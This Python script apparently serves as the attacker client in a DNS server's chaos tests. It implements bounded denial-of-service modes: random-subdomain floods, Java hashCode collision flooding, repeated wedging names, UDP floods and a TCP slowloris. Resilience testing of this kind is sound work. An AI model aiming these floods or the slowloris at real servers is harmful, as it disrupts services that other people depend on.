#!/usr/bin/env python3
"""The one misbehaving client of a chaos scenario. Every mode is bounded: it stops after --count queries (or
connections) or --duration seconds, whichever comes first, and prints what it did on stderr.

  random     queries for random names under each --suffix (random-subdomain / "water torture" flood)
  collide    queries for names whose lower-cased text has one Java String.hashCode (hash flooding the caches
             and in-flight maps that key on it), under each --suffix
  repeat     the --name names over and over (e.g. a hostile upstream's wedging names)
  flood      the --names file's names (real, answerable names) as fast as it can send: UDP at capacity
  slowloris  --conns TCP connections, each sent a length prefix (255) and then one byte every --drip seconds,
             never a whole query; reconnects what the server closes

UDP modes send at --rate queries/s (0: as fast as one Python thread can) from --bind (an attacker's loopback
address, 127.0.2.0/24 by default, another /24 than the well-behaved clients) and read answers without waiting."""
import argparse
import random
import select
import socket
import sys
import time

import dnswire

ap = argparse.ArgumentParser()
ap.add_argument("mode", choices=["random", "collide", "repeat", "flood", "slowloris"])
ap.add_argument("--server", required=True, help="HOST:PORT")
ap.add_argument("--bind", default="127.0.2.1")
ap.add_argument("--suffix", action="append", default=[])
ap.add_argument("--name", action="append", default=[])
ap.add_argument("--names")
ap.add_argument("--rate", type=float, default=0)
ap.add_argument("--count", type=int, default=1_000_000)
ap.add_argument("--duration", type=float, default=60)
ap.add_argument("--conns", type=int, default=1100)
ap.add_argument("--drip", type=float, default=5)
a = ap.parse_args()
h, p = a.server.rsplit(":", 1)
server = (h, int(p))
t0 = time.time()
end = t0 + a.duration


def say(msg):
    print("[attack %s] %s" % (a.mode, msg), file=sys.stderr, flush=True)


def names():
    if a.mode == "random":
        while True:
            for s in a.suffix:
                yield "%s.%s" % (dnswire.rand_label(random.randint(8, 20)), s), dnswire.A
    elif a.mode == "collide":
        blocks = dnswire.colliding_blocks()
        say("colliding blocks %s (Java hashCode of each: %s)" % (blocks, {dnswire.java_hash(b) for b in blocks}))
        while True:
            for s in a.suffix:
                yield "".join(random.choice(blocks) for _ in range(20)) + "." + s, dnswire.A
    elif a.mode == "repeat":
        while True:
            for n in a.name:
                t = "A"
                if " " in n:
                    n, t = n.split()
                yield n, dnswire.TYPES[t]
    else:
        mix = [(f[0], dnswire.TYPES[f[1]]) for f in (l.split() for l in open(a.names)) if len(f) >= 2]
        while True:
            yield random.choice(mix)


def udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((a.bind, 0))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    sock.setblocking(False)
    sent = answered = 0
    rcodes = {}
    gen = names()
    nxt = time.time()
    while sent < a.count and time.time() < end:
        if a.rate:
            now = time.time()
            if now < nxt:
                r, _, _ = select.select([sock], [], [], nxt - now)
            nxt += 1.0 / a.rate
            if nxt < now - 1:
                nxt = now
        name, qtype = next(gen)
        try:
            sock.sendto(dnswire.query(random.randrange(65536), name, qtype), server)
            sent += 1
        except BlockingIOError:
            select.select([sock], [sock], [], 0.01)
        except OSError:
            pass
        for _ in range(4):
            try:
                data = sock.recv(65535)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                continue
            answered += 1
            if len(data) >= 4:
                rc = data[3] & 0xF
                rcodes[rc] = rcodes.get(rc, 0) + 1
    say("sent=%d answered=%d rcodes=%s in %.0fs" % (sent, answered, rcodes, time.time() - t0))


def slowloris():
    conns = {}
    opened = refused = closed = 0
    last_drip = 0.0
    while time.time() < end and opened < a.count:
        while len(conns) < a.conns and opened < a.count and time.time() < end:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                s.bind((a.bind, 0))
                s.settimeout(1)
                s.connect(server)
                s.send(b"\x00\xff")  # a length prefix of 255 bytes, and then only a byte every drip seconds
                s.setblocking(False)
                conns[s.fileno()] = s
                opened += 1
            except OSError:
                refused += 1
                s.close()
                time.sleep(0.05)
                break
        if time.time() - last_drip >= a.drip:
            last_drip = time.time()
            for fd, s in list(conns.items()):
                try:
                    if s.recv(1) == b"":
                        raise OSError("closed")
                except BlockingIOError:
                    pass
                except OSError:
                    s.close()
                    del conns[fd]
                    closed += 1
                    continue
                try:
                    s.send(b"\0")  # keeps the length prefix/message incomplete: a byte every drip seconds
                except OSError:
                    s.close()
                    del conns[fd]
                    closed += 1
            say("open=%d opened=%d closed_by_server=%d refused=%d" % (len(conns), opened, closed, refused))
        time.sleep(0.2)
    for s in conns.values():
        s.close()
    say("done: opened=%d closed_by_server=%d refused=%d in %.0fs" % (opened, closed, refused, time.time() - t0))


if a.mode == "slowloris":
    slowloris()
else:
    udp()
